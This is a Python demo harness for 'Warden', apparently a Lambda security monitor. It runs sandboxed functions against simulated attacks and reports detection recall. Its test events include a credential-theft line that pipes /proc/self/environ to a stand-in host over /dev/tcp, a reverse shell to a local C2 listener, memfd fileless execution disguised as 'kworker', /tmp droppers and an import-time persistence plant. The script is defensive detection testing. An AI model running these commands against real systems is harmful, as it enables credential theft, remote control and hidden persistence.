"""Runs the demo described in scripts/demo: Warden's findings, as they would reach CloudWatch."""
import json
import os
import shutil
import socket
import subprocess
import sys
import threading

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
RELEASE = os.path.join(ROOT, "target", "release")
WORK = os.path.join(ROOT, "target", "demo")
WARMUP = 25


def listener(commands=None, ports=(0,)):
    """A stand-in for an attacker's server on the host: accepts and counts bytes; with
    `commands`, sends them first (a command-and-control server for a reverse shell). Binds the
    first of `ports` that is free (0: any)."""
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    for n, port in enumerate(ports):
        try:
            srv.bind(("0.0.0.0", port))
            break
        except OSError:
            if n + 1 == len(ports):
                raise
    srv.listen(16)
    received = {"bytes": 0, "connections": 0}

    def handle(conn):
        with conn:
            if commands:
                conn.sendall(commands)
            while True:
                data = conn.recv(65536)
                if not data:
                    break
                received["bytes"] += len(data)

    def serve():
        while True:
            conn, _ = srv.accept()
            received["connections"] += 1
            threading.Thread(target=handle, args=(conn,), daemon=True).start()

    threading.Thread(target=serve, daemon=True).start()
    return srv.getsockname()[1], received


def layer():
    """The layer as Lambda unpacks it at /opt: the extension, the shipped model and the
    in-process guard with its exec wrapper."""
    base = os.path.join(WORK, "layer")
    os.makedirs(os.path.join(base, "extensions"), exist_ok=True)
    os.makedirs(os.path.join(base, "warden", "lib"), exist_ok=True)
    shutil.copy2(os.path.join(RELEASE, "warden-extension"), os.path.join(base, "extensions", "warden"))
    shutil.copy2(os.path.join(ROOT, "layer", "model", "model.bin"), os.path.join(base, "warden", "model.bin"))
    shutil.copy2(os.path.join(RELEASE, "libwarden_guard.so"), os.path.join(base, "warden", "lib", "libwarden_guard.so"))
    shutil.copy2(os.path.join(RELEASE, "warden-wrapper"), os.path.join(base, "warden", "wrapper"))
    return base


def guard_wrapper():
    """The exec wrapper, by a path the sandbox sees isolated or not (/opt exists only isolated)."""
    return os.path.join(layer(), "warden", "wrapper")


MEMFD_EXEC = ("import os; fd = os.memfd_create('kworker'); "
              "os.write(fd, open('/bin/sleep', 'rb').read()); "
              "os.execv('/proc/self/fd/%d' % fd, ['kworker', '0.1'])")


def guarded_attacks(sink_port):
    """What the outside view misses and the in-process guard sees (Python, through the wrapper)."""
    host = "host.sandbox"
    return [
        ("fileless: a program run from memory (memfd)", "dropper",
         {"spawn": ["python3", "-c", MEMFD_EXEC]}),
        ("a payload run through the dynamic loader", "dropper",
         {"spawn": ["sh", "-c", "cp /bin/sleep /tmp/.l && /lib64/ld-linux-x86-64.so.2 /tmp/.l 0.1"]}),
        ("Warden stopped (SIGSTOP) while data leaves", "tamper",
         {"stop_extension": {"ms": 300, "during": ["python3", "-c",
          f"import socket; s = socket.create_connection(('{host}', {sink_port})); s.sendall(b'x' * 20000)"]}}),
    ]


def benign(i):
    return {"delay_ms": 5 + (i * 7) % 25, "log_lines": i % 3, "burn_ms": 2 + i % 5,
            "response_bytes": 200 + (i * 37) % 400}


def workload(sink_port, c2_port, pool_port, extra=()):
    host = "host.sandbox"
    attacks = [
        ("command injection: a shell runs commands", "command_injection",
         {"spawn": ["sh", "-c", "id; uname -a; sleep 0.1"]}),
        ("reverse shell to a C2 server", "reverse_shell",
         {"reverse_shell": {"host": host, "port": c2_port, "wait_ms": 800}}),
        ("crypto-mining: CPU burn + a pool port", "crypto_mining",
         {"connect": {"host": host, "port": pool_port}, "burn_ms": 400}),
        ("exfiltration: 5 MB sent out", "exfiltration_egress",
         {"send": {"host": host, "port": sink_port, "bytes": 5_000_000}}),
        ("exfiltration: a 4 MB response", "exfiltration_response", {"response_bytes": 4_000_000}),
        ("credential theft: environ read and sent", "credential_theft",
         {"spawn": ["bash", "-c", f"cat /proc/self/environ | head -c 4096 > /dev/tcp/{host}/{sink_port}"]}),
        ("dropper: payload written to /tmp and run", "dropper",
         {"exec_tmp": {"path": "/tmp/.x", "script": "#!/bin/sh\nsleep 0.2\necho pwned\n"}}),
        ("denial of wallet: runaway compute", "denial_of_wallet", {"burn_ms": 2500}),
        *extra,
    ]
    events = [(f"benign #{i + 1}", benign(i), None) for i in range(WARMUP)]
    # Each attack starts 100 ms in, as a handler does after its own start-up work: what a
    # function does within a millisecond of the thaw can be counted with the invocation before
    # (docs/features.md, the capture race).
    for n, (label, expected, event) in enumerate(attacks):
        events.append((label, {"delay_ms": 100, **event}, expected))
        events.append((f"benign, after {n + 1}", benign(100 + n), None))
    for n in range(4):
        events.append((f"probing: malformed input #{n + 1}", {"error_lines": 3, "fail": f"bad input {n}"},
                       "probing"))
    events.append(("benign, after probing", benign(150), None))
    # Last: what it leaves keeps running through every later invocation. The handler goes on
    # for 50 ms after detaching it, as it does for 100 ms before each attack: a process
    # detached within the last 10 ms before the response is on the boundary between two
    # invocations by its start time (docs/features.md, "Left running, or the next
    # invocation's?"), and a Rust handler answers within microseconds.
    events.append(("persistence: a process left running",
                   {"delay_ms": 100, "spawn_detached": ["sleep", "300"], "sleep_ms": 50}, "persistence"))
    events.append(("benign, last", benign(200), None))
    return events


def run(function_args, name, events, env=()):
    os.makedirs(WORK, exist_ok=True)
    events_file = os.path.join(WORK, f"{name}.events.jsonl")
    report_file = os.path.join(WORK, f"{name}.report.jsonl")
    with open(events_file, "w") as f:
        for _, event, _ in events:
            f.write(json.dumps(event) + "\n")
    cmd = [os.path.join(RELEASE, "warden-sandbox"), "run", "--layer", layer(), *function_args,
           "--events", events_file, "--report", report_file, "--host-link", "--quiet",
           "--timeout-s", "3", "--function-name", name]
    for pair in env:
        cmd += ["--env", pair]
    out = subprocess.run(cmd, capture_output=True, text=True, env={**os.environ,
                         "WARDEN_SANDBOX_PYTHON": os.path.join(ROOT, ".venv", "bin", "python")})
    if out.returncode != 0:
        sys.stderr.write(out.stderr)
        raise SystemExit(f"sandbox failed with {out.returncode}")
    # What the function's log group would hold: Warden's records and findings among its lines.
    with open(os.path.join(WORK, f"{name}.stdout.jsonl"), "w") as f:
        f.write(out.stdout)
    findings = {}
    init = []
    for line in out.stdout.splitlines():
        try:
            value = json.loads(line)
        except ValueError:
            continue
        if isinstance(value, dict) and "warden_finding" in value and value.get("request_id") is None:
            init.append(value)
        elif isinstance(value, dict) and "warden_finding" in value:
            findings.setdefault(value.get("request_id"), []).append(value)
            # The first errors of a probing burst are reported by the finding that names it.
            for earlier in value.get("earlier_requests", []):
                findings.setdefault(earlier, []).append({**value, "reported_with": value.get("request_id")})
    report = [json.loads(l) for l in open(report_file) if l.strip()]
    return report, findings, init


def raw(feature, value):
    if value is None:
        return "-"
    if "bytes" in feature:
        return f"{value / 1e6:.2f} MB" if abs(value) >= 1e6 else f"{value / 1e3:.1f} kB"
    return f"{value:g}"


def describe(f):
    lines = [f"   FINDING {f['class']} ({f['severity']}, score {f['score']:.2f}"
             f"{', real time' if f['realtime'] else ''})"]
    for e in f["explanation"][:3]:
        normal = e.get("normal")
        rng = f"normal {raw(e['feature'], normal[0])}..{raw(e['feature'], normal[1])}" if normal else "no baseline yet"
        lines.append(f"     {e['feature']:<24} {raw(e['feature'], e['observed']):>10}   {rng}   "
                     f"({e['source']}, {e['contribution']:.2f})")
    for ev in f["evidence"][:2]:
        what = {"process": lambda v: f"process {v.get('exe')}: {v.get('cmdline', '')[:60]}",
                "endpoint": lambda v: f"{v.get('proto')} {'listener' if v.get('listen') else 'connection'} {v.get('addr')}",
                "tmp_file": lambda v: f"/tmp file {v.get('path')} {v.get('action')}",
                "program": lambda v: f"program run {v.get('exe')}",
                "still_running": lambda v: f"still running from earlier: {v.get('exe')}: {v.get('cmdline', '')[:60]}",
                }.get(ev["kind"], str)
        lines.append(f"     evidence: {what(ev)}")
    return lines


def verdict(found):
    """An invocation's last finding: the one made from its whole record, when there is one."""
    # Findings come in the order Warden printed them: of those printed in the same millisecond,
    # the later one knew more (max() keeps the first of equals, so it is given them reversed).
    return max(reversed(found), key=lambda f: (f["time_unix_ms"], not f["realtime"]))


def show(title, events, report, findings):
    print(f"\n== {title}")
    invocations = [r for r in report if r.get("type") == "invocation"]
    tally = {"attacks": 0, "found": 0, "named": 0, "benign": 0, "flagged": 0, "planted": 0}
    quiet = 0
    for (label, _, attack), inv in zip(events, invocations):
        found = findings.get(inv["request_id"], [])
        tally["attacks" if attack else "benign"] += 1
        # After the persistence attack, its process is still there: reported, not a false alarm
        # (a process detached just before the response can be judged with the next invocation).
        planted = bool(found) and all(
            set(f["indicators"]) & {"still_running", "left_running"} for f in found)
        if attack:
            tally["found"] += bool(found)
            # Named right: the invocation's verdict, its last finding (the record's, with all
            # its evidence, comes after the real-time ones), has the class.
            tally["named"] += bool(found) and verdict(found)["class"] == attack
        else:
            tally["planted" if planted else "flagged"] += bool(found)
        if not attack and not found:
            quiet += 1
            continue
        if quiet:
            print(f"{quiet} benign invocation(s): no finding")
            quiet = 0
        print(f"{label:<44} {inv['status']:<8} {inv.get('duration_ms') or 0:>8.1f} ms")
        if not found:
            print("   (no finding)")
        elif attack and verdict(found)["class"] != attack:
            print(f"   (expected class {attack})")
        # The verdict first, then the most severe other: a real-time finding and the
        # end-of-invocation one may both exist.
        last = verdict(found) if found else None
        for f in sorted(found, key=lambda f: (f is not last, -f["score"]))[:2]:
            if f.get("reported_with"):
                print(f"   reported later, with the {f['class']} burst finding of {f['reported_with'][:8]}...")
                continue
            print("\n".join(describe(f)))
    if quiet:
        print(f"{quiet} benign invocation(s): no finding")
    print(f"-- attacks found: {tally['found']}/{tally['attacks']}, named with their class: "
          f"{tally['named']}/{tally['found']}; "
          f"benign invocations with a finding: {tally['flagged']}/{tally['benign']} "
          f"(and {tally['planted']} reporting the process the persistence attack left running)")
    return tally


def show_init(python, wrapper):
    """A dependency that plants a payload when it is imported, before the first event."""
    plant = {"spawn_detached": ["sh", "-c", "cp /bin/sleep /tmp/.cache-worker && exec /tmp/.cache-worker 300"],
             "sleep_ms": 100}
    events = [(f"benign #{i + 1}", benign(i), None) for i in range(3)]
    report, findings, init = run(python, "billing-api", events,
                                 [wrapper, "PROBE_INIT=" + json.dumps(plant)])
    print("\n== Python function whose dependency plants a payload at import (the init phase)")
    for f in init:
        print("init phase")
        print("\n".join(describe(f)))
    tally = show("... and its invocations", events, report, findings)
    tally["attacks"] += 1
    tally["found"] += any(f["class"] == "persistence" for f in init)
    tally["named"] += any(f["class"] == "persistence" for f in init)
    return tally


def main():
    sink_port, received = listener()
    # The attacker's session: a few commands, a pause while they read the answers, then exit.
    c2_port, _ = listener(b"id\nuname -a\nsleep 0.3\nexit\n")
    # A mining pool on a port miners default to (the first one free here).
    pool_port, _ = listener(ports=(3333, 14444, 45700))
    python = ["--function", os.path.join(ROOT, "tests", "functions", "python-probe"), "--runtime", "python",
              "--handler", "handler.handler"]
    wrapper = f"AWS_LAMBDA_EXEC_WRAPPER={guard_wrapper()}"
    totals = []
    events = workload(sink_port, c2_port, pool_port, guarded_attacks(sink_port))
    report, findings, _ = run(python, "orders-api", events, [wrapper])
    totals.append(show("Python function (awslambdaric) with the Warden layer and its in-process guard",
                       events, report, findings))
    events = workload(sink_port, c2_port, pool_port)
    rust_dir = os.path.join(WORK, "rust-function")
    os.makedirs(rust_dir, exist_ok=True)
    shutil.copy2(os.path.join(RELEASE, "rust-probe"), os.path.join(rust_dir, "bootstrap"))
    report, findings, _ = run(["--function", rust_dir, "--runtime", "provided"], "thumbnailer", events)
    totals.append(show("Rust function (lambda_runtime) with the Warden layer", events, report, findings))
    totals.append(show_init(python, wrapper))
    summary = [r for r in report if r.get("type") == "summary"]
    print("\n== summary")
    found, named = sum(t['found'] for t in totals), sum(t['named'] for t in totals)
    print(f"attacks found (recall): {found}/{sum(t['attacks'] for t in totals)}; "
          f"named with their class (class accuracy): {named}/{found}; "
          f"benign invocations with a finding: {sum(t['flagged'] for t in totals)}/{sum(t['benign'] for t in totals)} "
          f"(and {sum(t['planted'] for t in totals)} reporting the process the persistence attack left running)")
    print(f"the attacker's host received {received['bytes']} bytes on {received['connections']} connections")
    if summary:
        s = summary[0]
        print(f"sandbox: median post-runtime {s['median_post_runtime_ms']} ms (what Warden adds to the bill), "
              f"isolated={s['isolated']}")
    print("findings are JSON lines on the function's stdout, i.e. in its CloudWatch log group; "
          "the schema is in docs/findings.md")


if __name__ == "__main__":
    main()
